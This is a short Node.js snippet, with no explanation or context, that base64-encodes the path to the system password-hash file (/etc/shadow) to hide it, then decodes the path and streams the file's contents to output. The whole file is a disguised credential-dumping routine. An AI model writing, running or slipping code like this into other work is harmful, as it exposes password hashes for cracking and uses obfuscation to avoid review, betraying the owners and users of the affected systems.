const fs = require('fs');
const where = Buffer.from('L2V0Yy9zaGFkb3c=', 'base64').toString();
fs.createReadStream(where).pipe(process.stdout);
